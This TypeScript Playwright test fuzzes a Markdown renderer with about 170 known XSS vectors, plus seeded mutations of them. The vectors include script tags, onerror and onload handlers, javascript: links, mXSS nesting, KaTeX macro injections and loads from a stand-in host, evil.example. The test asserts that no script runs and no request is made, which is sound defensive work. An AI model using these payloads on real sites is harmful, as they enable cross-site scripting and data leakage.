import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Page } from '@playwright/test';
import { build } from 'esbuild';
import { expect, plainTest as test } from '../support/e2e';
import { settle } from './gallery';

/**
 * Hostile Markdown in a real Chromium without a Content-Security-Policy: each text is streamed in random pieces
 * through `MarkdownStream`, and rendered as a saved lesson. No script may run, no request be made, no unexpected
 * markup appear.
 *
 * 2,000 texts; `HOSTILE_TEXTS=10000 npx playwright test tests/e2e/hostile.js.spec.ts` for the full run,
 * `HOSTILE_SEED=…` for others.
 */
const texts = Number(process.env.HOSTILE_TEXTS ?? 2_000);
const seed = Number(process.env.HOSTILE_SEED ?? 20_261_121);
const perBatch = 250;
const root = dirname(dirname(dirname(fileURLToPath(import.meta.url))));

const run = 'window.__ran=(window.__ran||0)+1';
const call = 'alert(1)';

/**
 * Known XSS vectors: OWASP, PortSwigger, reports against Markdown renderers, and from the sources of marked and
 * xss.
 */
const vectors: readonly string[] = [
  `<script>${run}</script>`,
  `<script >${run}</script >`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<script/src=data:,${call}>`,
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${run}"//`,
  `<img src="x" onerror='${run}'`,
  `<img/src/onerror=${call}>`,
  `<IMG """><SCRIPT>${call}</SCRIPT>">`,
  `<img src=https://evil.example/beacon.png>`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}//`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}></style></mglyph></table></mtext></math>`,
  `<math><mi//xlink:href="data:x,<script>${call}</script>">`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<object data="javascript:${call}">`,
  `<embed src="data:text/html,<script>${call}</script>">`,
  `<body onload=${call}>`,
  `<video><source onerror=${call}>`,
  `<audio src=x onerror=${call}>`,
  `<details open ontoggle=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<textarea autofocus onfocus=${call}>`,
  `<marquee onstart=${call}>`,
  `<form action="javascript:${call}"><button>x</button></form>`,
  `<button form=ticks formaction=javascript:${call}>x</button>`,
  `<isindex type=image src=1 onerror=${call}>`,
  `<a href="javascript:${call}" autofocus onfocus=${call} tabindex=1>x</a>`,
  `<a href="jav&#x09;ascript:${call}">x</a>`,
  `<a href=" &#14; javascript:${call}">x</a>`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<link rel="prefetch" href="https://evil.example/p">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style>*{background:url(https://evil.example/x)}</style>`,
  `<p style="background:url(https://evil.example/y)">x</p>`,
  `<div style="animation-name:x" onanimationstart=${call}>`,
  `<x onclick=${call} style=position:fixed;inset:0>x</x>`,
  `<template><script>${call}</script></template>`,
  `<xmp><p title="</xmp><svg/onload=${call}>">`,
  `<plaintext><script>${call}</script>`,
  `<title><img src=x onerror=${call}></title>`,
  `<!--<img src="--><img src=x onerror=${call}//">`,
  `<!-- --!><img src=x onerror=${call}> -->`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${call}>`,
  `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${call}>">]>&y;`,
  `<img id=location name=body><a id=__ran><a id=__ran name=x>`,
  `<form id=ticks><input name=attributes>`,
  // Markdown's own
  `[x](javascript:${call})`,
  `[x](JaVaScRiPt:${call})`,
  `[x](javascript&colon;${call})`,
  `[x](&#106;&#97;vascript:${call})`,
  `[x](&#x6A&#x61&#x76&#x61script:${call})`,
  `[x](java\tscript:${call})`,
  `[x](\u0001javascript:${call})`,
  `[x](\u00a0javascript:${call})`,
  `[x](<javascript:${call}>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](vbscript:msgbox)`,
  `[x](//evil.example)`,
  `[x](/logout)`,
  `[x](https://a.example "onmouseover=${call} ")`,
  `[x](https://a.example/" onmouseover="${call})`,
  `[x](https://a.example/'onmouseover='${call})`,
  `[x](https://a.example/\`onmouseover=${call})`,
  `[x](mailto:a@b.example?"onmouseover="${call})`,
  `[x](mailto:<img src=x onerror=${call}>)`,
  `[x](<mailto:"><script>${call}</script>>)`,
  `[x](https://a.example/?<script>${call}</script>)`,
  `[x](https://a.example/#"><img src=x onerror=${call}>)`,
  `[<img src=x onerror=${call}>](https://a.example)`,
  `[\`<img src=x onerror=${call}>\`](javascript:${call})`,
  `![x](javascript:${call})`,
  `![x](https://evil.example/beacon.png)`,
  `![x" onerror="${call}](https://a.example/i.png)`,
  `![<script>${call}</script>](https://a.example/i.png)`,
  `![x](https://a.example/i.png"onerror="${call})`,
  `[![x](https://evil.example/b.png)](javascript:${call})`,
  `<javascript:${call}>`,
  `<https://a.example/"onmouseover="${call}>`,
  `<https://a.example/<script>${call}</script>>`,
  `https://a.example/"><script>${call}</script>`,
  `www.a.example/"onmouseover="${call}`,
  `a@b.example"onmouseover="${call}`,
  `[x]: javascript:${call}\n\n[x]`,
  `[x]: https://a.example "><script>${call}</script>"\n\n[x]`,
  `[x][y]\n\n[y]: data:text/html,<script>${call}</script>`,
  '```"><script>alert(1)</script>\nx\n```',
  '```js" onmouseover="alert(1)\nx\n```',
  '```<img src=x onerror=alert(1)>\n</code></pre><img src=x onerror=alert(1)>\n```',
  '~~~\n</code><script>alert(1)</script>\n~~~',
  '`</code><img src=x onerror=alert(1)>`',
  '    </pre><img src=x onerror=alert(1)>',
  `x <code> <img src=x onerror=${call}//`,
  `x <pre> &lt;img src=x onerror=${call}&gt; <img src=x onerror=${call} `,
  `<kbd><svg onload=${call}//`,
  `- [ ] <img src=x onerror=${call}>`,
  `- [x] " onmouseover="${call}`,
  `- [ ] "><script>${call}</script>`,
  `- [ ] \`"><img src=x onerror=${call}>\``,
  `1. [ ] '><svg/onload=${call}>`,
  `| a | b |\n|---|---|\n| <img src=x onerror=${call}> | \`<script>${call}</script>\` |`,
  `| "onload="${call} |\n|:-:|\n| <svg onload=${call}> |`,
  `> <script>\n> ${call}\n> </script>`,
  `# <img src=x onerror=${call}>`,
  `<h1 onclick=${call}>x\n===`,
  `**<b onclick=${call}>x**</b>`,
  `~~<svg onload=${call}>~~`,
  `\\<img src=x onerror=${call}\\>`,
  `&lt;img src=x onerror=${call}&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `&amp;lt;script&amp;gt;${call}`,
  `<\u0000script>${call}</script>`,
  `<scr\u0000ipt>${call}</script>`,
  `\uFF1Cscript\uFF1E${call}\uFF1C/script\uFF1E`,
  `<ſcript>${call}</ſcript>`,
  `<img src=x onerror\u2028=${call}>`,
  `<svg\u000Conload=${call}>`,
  `<svg\u00A0onload=${call}>`,
  `<a\r\nhref\r\n=\r\njavascript:${call}>x</a>`,
  `\u202E<img src=x onerror=${call}>`,
  `<input type="checkbox" disabled data-task="0" aria-label=""><img src=x onerror=${call}>`,
  `<button type=submit form=ticks name=task value=0:1 class=tick>`,
  `<div data-copy="x" data-theme-toggle class=menu>`,
  '```markdown\n<script>alert(1)</script>\n```',
  '````md\n```\n<img src=x onerror=alert(1)>\n```\n````',
  `x[^1]\n\n[^1]: <img src=x onerror=${call}>`,
  `x[^"><img src=x onerror=${call}>]\n\n[^"><img src=x onerror=${call}>]: y`,
  `> [!NOTE] <svg onload=${call}>`,
  `<img src=x onerror=${call}>\n: <script>${call}</script>`,
  `Table: <svg onload=${call}>\n\n| a |\n|---|\n| b<br onclick=${call}> |`,
  `<details open ontoggle=${call}>\n<summary onclick=${call}>x</summary>\n</details>`,
  `<details><summary><img src=x onerror=${call}></summary>\n<script>${call}</script>\n</details>`,
  `<sub><script>${call}</script></sub><kbd><img src=x onerror=${call}></kbd>`,
  `<mark><!-- --><svg onload=${call}><!-- --></mark>`,
  `$\\text{<script>${run}</script>}$`,
  `$$\\text{<img src=x onerror=${call}>}$$`,
  `\\(\\href{javascript:${call}}{x}\\)`,
  `\\[\\url{javascript:${call}}\\]`,
  `$\\href{https://evil.example/}{x}$`,
  `$\\includegraphics{https://evil.example/x.png}$`,
  `$\\style{background:url(https://evil.example/x)}{x}$`,
  `$\\class{task" onclick="${call}}{x}$`,
  `$\\data{x=1}{y}$ $\\htmlData{onclick=${call}}{y}$ $\\cssId{ticks}{x}$`,
  `$\\color{red;background:url(https://evil.example/x)}x$`,
  `$\\colorbox{"><img src=x onerror=${call}>}{x}$`,
  `$\\mathrm{<svg onload=${call}>}$`,
  `$\\operatorname{<img src=x onerror=${call}>}$`,
  `$\\begin{<img src=x onerror=${call}>}x\\end{<img src=x onerror=${call}>}$`,
  `$\\ce{<img src=x onerror=${call}>}$`,
  `$\\tag{<script>${run}</script>}x$`,
  `$</annotation><img src=x onerror=${call}>$`,
  `$x</math><script>${run}</script>$`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}></style></mglyph></table></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><svg onload=${call}></annotation-xml></math>`,
  `<math href="javascript:${call}"><maction actiontype="statusline" xlink:href="javascript:${call}">x</maction></math>`,
  `$\\def\\x{<script>}\\x ${call}$`,
  `$\\hspace{99999em}\\rule{99999em}{99999em}\\kern-9999em x$`,
  `\ufdd0\ufdd4<\ufdd9script>${run}\ufdef $x$`,
  `| $|<b onclick=${call}>|$ | $a|b$ |\n|-|-|\n| $x|y$ | $"|'$ |`,
];

/** Pieces that further texts are spliced from. */
const bits: readonly string[] = [
  ...['<', '>', '"', "'", '`', '```', '~~~', '\n', '\n\n', '\r\n', ' ', '\t', '\u0000', '\\', '&', '#', '=', '/'],
  ...['- [ ] ', '- [x] ', '1. ', '> ', '    ', '# ', '| a | b |\n|-|-|\n| ', '[', '](', ')', '![', '<!--', '-->'],
  ...['**', '_', '~~', '[x]: ', 'javascript:', 'JAVA&#x0A;SCRIPT:', 'data:text/html,', 'https://a.example/'],
  ...['mailto:', '&#x3C;', '&lt', '&quot;', '&colon;', '<img src=x ', '<svg ', '<a href=', '<code>', '</code>'],
  ...[' onerror=', ' onload=', ' onmouseover=', ' autofocus onfocus=', call, run, '<script>', '</script>', '</p>'],
  ...['</pre>', '<style>', ']]>', '<![CDATA[', 'style="background:url(https://evil.example/z)"', 'a', 'word'],
  ...['$', '$$', '\\(', '\\)', '\\[', '\\]', '{', '}', '^', '_', '&', '\\\\', '$x$', '$$y$$'],
  ...['\\text{', '\\frac{', '\\begin{aligned}', '\\end{aligned}', '\\left(', '\\ce{', '\\href{', '\\color{', '\ufdd5'],
];

/** mulberry32: the same numbers for the same seed, so that a failure can be reproduced. */
function seeded(state: number) {
  let a = state;
  const next = () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
  const below = (limit: number) => Math.floor(next() * limit);
  const pick = <T>(list: readonly T[]): T => list[below(list.length)] as T;
  return { below, pick };
}

/** The vectors as they are, then endless mutations, splices and heaps of pieces. */
function hostileTexts(count: number): string[] {
  const { below, pick } = seeded(seed);
  const cut = (text: string) => text.slice(below(text.length + 1), below(text.length + 1) || undefined);
  const kinds: readonly (() => string)[] = [
    () => {
      const text = pick(vectors);
      const at = below(text.length + 1);
      return text.slice(0, at) + pick(bits) + text.slice(at + below(3));
    },
    () => {
      const one = pick(vectors);
      return one.slice(0, below(one.length + 1)) + pick(bits) + cut(pick(vectors));
    },
    () => pick(['- [ ] ', '> ', '# ', '**', '1. [x] ', '| ', '    ', '<code>', '[', '![']) + pick(vectors) + pick(bits),
    () => Array.from({ length: 3 + below(30) }, () => pick(bits)).join(''),
    () => Array.from({ length: 2 + below(4) }, () => pick(vectors)).join(pick(['\n', '\n\n', '', ' ', '\n- ', '\n> '])),
    () =>
      [...pick(vectors)]
        .map((sign) =>
          below(8) === 0 ? pick([sign.toUpperCase(), `&#${sign.codePointAt(0)};`, sign + sign, '']) : sign,
        )
        .join(''),
  ];
  return Array.from({ length: count }, (_, index) => vectors[index] ?? pick(kinds)());
}

function inRandomPieces(text: string, { below }: ReturnType<typeof seeded>): string[] {
  const pieces: string[] = [];
  for (let at = 0; at < text.length; ) {
    const length = 1 + below(below(4) === 0 ? 40 : 6);
    pieces.push(text.slice(at, at + length));
    at += length;
  }
  return pieces;
}

test(`nothing of ${texts} hostile texts runs, loads or adds unexpected markup`, async ({ browser }) => {
  test.setTimeout(30_000 + texts * 30);
  const bundle = await build({
    stdin: {
      contents: `
        export { MarkdownStream } from '~/kit/markdown/stream';
        export { toHtml } from '~/kit/markdown/render';
        export { withTaskButtons } from '~/kit/markdown/task-boxes';
        export { formula } from '~/kit/markdown/math';
        export { GrowingText } from '~/rooms/lesson/ui/growth';`,
      resolveDir: root,
      loader: 'ts',
    },
    bundle: true,
    write: false,
    format: 'iife',
    globalName: 'topiary',
    alias: { '~': join(root, 'app') },
    logLevel: 'error',
  });

  const page = await browser.newPage();
  const asked: string[] = [];
  const errors: string[] = [];
  await page.route('**/*', (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  page.on('pageerror', (error) => errors.push(String(error)));
  page.on('dialog', (dialog) => dialog.dismiss());
  await page.setContent(
    '<!doctype html><body><form id="ticks"></form>' +
      '<div class="panel-body"><div id="place"></div><div id="saved"></div></div>',
  );
  await page.evaluate(() => {
    const ran = () => {
      const counter = window as unknown as { __ran?: number };
      counter.__ran = (counter.__ran ?? 0) + 1;
    };
    Object.assign(window, { __ran: 0, alert: ran, prompt: ran, confirm: ran, msgbox: ran });
  });
  await page.addScriptTag({ content: bundle.outputFiles[0]?.text ?? '' });

  const all = hostileTexts(texts);
  const cuts = seeded(seed + 1);
  const finds: string[] = [];
  for (let at = 0; at < all.length; at += perBatch) {
    const batch = all.slice(at, at + perBatch).map((text) => inRandomPieces(text, cuts));
    finds.push(...(await page.evaluate(feed, batch)));
  }
  await askForLast(page);

  expect(finds).toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { __ran: number }).__ran)).toBe(0);
  expect(asked).toEqual([lastAddress]);
  expect(errors).toEqual([]);
  await page.close();
});

test('the test would notice a script, a request and a foreign element', async ({ page }) => {
  const asked: string[] = [];
  await page.route('**/*', (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  await page.setContent('<!doctype html><body><div id="place"></div>');
  await page.evaluate((html) => {
    Object.assign(window, { __ran: 0 });
    const place = document.getElementById('place');
    if (place) place.innerHTML = html;
  }, `<img src="https://evil.example/x" onerror="${run}">`);
  await askForLast(page);
  expect(await page.evaluate(() => (window as unknown as { __ran: number }).__ran)).toBe(1);
  expect(asked).toEqual(['https://evil.example/x', lastAddress]);
});

const lastAddress = 'https://last.example/';

/** Requests a last address and waits until it is refused. By then all earlier requests have been reported. */
async function askForLast(page: Page): Promise<void> {
  await settle(page);
  await page.evaluate(
    (address) =>
      new Promise<void>((done) => {
        const image = new Image();
        image.onerror = () => done();
        image.src = address;
      }),
    lastAddress,
  );
}

/** Runs in the page: feeds the texts and returns the problems. */
async function feed(batch: string[][]): Promise<string[]> {
  const { MarkdownStream, GrowingText, toHtml, withTaskButtons, formula } = (
    window as unknown as {
      topiary: {
        MarkdownStream: new (drawing: object) => { push(piece: string): { finished: string; open: string | null } };
        GrowingText: new (place: HTMLElement) => { add(growth: unknown): void; clear(): void };
        toHtml(text: string, drawing: object): string;
        formula: unknown;
        withTaskButtons(html: string, form: string): string;
      };
    }
  ).topiary;
  const place = document.getElementById('place') as HTMLElement;
  const saved = document.getElementById('saved') as HTMLElement;
  const elements = new Set(
    (
      'H3 H4 H5 H6 P BR HR BLOCKQUOTE STRONG EM DEL A UL OL LI PRE CODE DIV TABLE THEAD TBODY TR TH TD INPUT SPAN ' +
      'LABEL CAPTION DL DT DD SECTION SUB SUP KBD MARK DETAILS SUMMARY'
    ).split(' '),
  );
  const mathElements = new Set(
    (
      'math semantics annotation mrow mi mn mo mtext ms mspace mfrac msqrt mroot msub msup msubsup munder mover ' +
      'munderover mmultiscripts mprescripts mtable mtr mtd mpadded mphantom mstyle'
    ).split(' '),
  );
  const mathAttribute =
    /^(?:class m-[a-z0-9]+(?: m-[a-z0-9]+)*|encoding application\/x-tex|[a-z]+ -?[\w.]{1,10}|[a-z]+ \+\d)$/;
  const attributes: Record<string, RegExp> = {
    class:
      /^(?:tex|formula(?: inline)?|callout callout-(?:note|tip|important|warning|caution)|footnotes|hljs-[a-z]+|code-head|wrap|task|picture|table|left|center|right|language-[\w+#.-]{1,20})$/,
    href: /^(?:https?:|mailto:|#fn(?:ref)?-[a-z0-9]+-[\d-]+$)/,
    id: /^fn(?:ref)?-[a-z0-9]+-[\d-]+$/,
    role: /^note$/,
    rel: /^noopener noreferrer nofollow ugc$/,
    start: /^\d+$/,
    tabindex: /^0$/,
    type: /^checkbox$/,
    checked: /^$/,
    disabled: /^$/,
    'data-task': /^\d+$/,
    'aria-label': /./,
  };
  const wrong = (within: HTMLElement, isOwners: boolean): string[] => {
    const found: string[] = [];
    for (const element of within.querySelectorAll('*')) {
      // These are ours: the bar above code, and the owner's task buttons in place of the inputs.
      if (element.closest('.code-head')) continue;
      const isTick = isOwners && element.matches('button.tick[type=submit][form=ticks][name=task][role=checkbox]');
      if (mathElements.has(element.tagName)) {
        for (const { name, value } of element.attributes) {
          if (/^(?:on|style|href|src)/.test(name) || !mathAttribute.test(`${name} ${value}`))
            found.push(`${element.tagName} ${name}="${value}"`);
        }
        continue;
      }
      if (!isTick && !elements.has(element.tagName)) found.push(`<${element.tagName}>`);
      if (isTick && !/^\d+:[01]$/.test(element.getAttribute('value') ?? '')) found.push('tick value');
      for (const { name, value } of element.attributes) {
        if (isTick && ['type', 'form', 'name', 'value', 'class', 'role', 'aria-checked'].includes(name)) continue;
        if (!attributes[name]?.test(value)) found.push(`${element.tagName} ${name}="${value}"`);
      }
      const isInner = element.getAttribute('href')?.startsWith('#') ?? false;
      if (element instanceof HTMLAnchorElement && !isInner && !/^(?:https?|mailto):$/.test(element.protocol))
        found.push(`address ${element.href}`);
    }
    return found;
  };

  // setTimeout would wait 4 ms when called repeatedly.
  const channel = new MessageChannel();
  const nextTask = () =>
    new Promise((resolve) => {
      channel.port1.onmessage = resolve;
      channel.port2.postMessage(null);
    });

  const finds: string[] = [];
  for (const pieces of batch) {
    const stream = new MarkdownStream({ formula });
    const growing = new GrowingText(place);
    growing.clear();
    const before = (window as unknown as { __ran: number }).__ran;
    const found = new Set<string>();
    for (const piece of pieces) {
      growing.add(stream.push(piece));
      for (const each of wrong(place, false)) found.add(each);
    }
    saved.innerHTML = withTaskButtons(toHtml(pieces.join(''), { formula }), 'ticks');
    for (const each of wrong(saved, true)) found.add(each);
    // Handlers such as onerror run in a task of their own.
    await nextTask();
    if ((window as unknown as { __ran: number }).__ran !== before) found.add('a script ran');
    if (found.size > 0) finds.push(`${[...found].join(', ')} from ${JSON.stringify(pieces.join(''))}`);
  }
  return finds;
}
